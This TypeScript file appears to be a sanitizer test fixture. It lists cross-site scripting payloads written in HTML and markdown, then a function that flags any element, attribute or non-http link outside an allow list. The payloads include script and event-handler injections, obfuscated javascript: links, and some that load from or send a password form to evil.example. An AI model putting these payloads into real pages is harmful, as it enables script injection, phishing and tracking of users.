/** Markup that acts, loads or hides something in a browser that shows it as it is. */
export const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>ok</button></form>',
  '<a href="javascript:alert(1)">here</a>',
  '[here](javascript:alert(1))',
  '[here](JaVaScRiPt:alert(1))',
  '[here](java\tscript:alert(1))',
  '[here](&#106;avascript:alert(1))',
  '[here](vbscript:msgbox(1))',
  '[here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.gif)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<p style="background:url(https://evil.example)">x</p>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<b onmouseover=alert(1)>x</b>',
  '<details open ontoggle=alert(1)>x</details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<p id="main" name="location" class="notice">x</p>',
  '`<script>`<script>alert(1)</script>',
  '```html"><script>alert(1)</script>\nx\n```',
  '<!--><script>alert(1)</script>-->',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'x<x onclick=alert(1)>',
]

const allowed: Record<string, string[]> = {
  a: ['href', 'rel'],
  ol: ['start'],
  th: ['align', 'scope'],
  td: ['align'],
}
const harmless = new Set(
  'p br hr strong em del code pre blockquote ul ol li a h3 h4 h5 h6 table thead tbody tr th td'.split(' '),
)

/** What in a part of a document is none of the elements and attributes that a text may have. */
export const foreignIn = (body: Element) =>
  [...body.querySelectorAll('*')].flatMap((element) => {
    const name = element.localName
    const href = element.getAttribute('href') ?? 'https:'
    const attributes = element.getAttributeNames().filter((each) => !allowed[name]?.includes(each))
    return [
      ...(harmless.has(name) ? [] : [`<${name}>`]),
      ...attributes.map((each) => `${name} ${each}`),
      ...(/^https?:/.test(href) ? [] : [href]),
    ]
  })
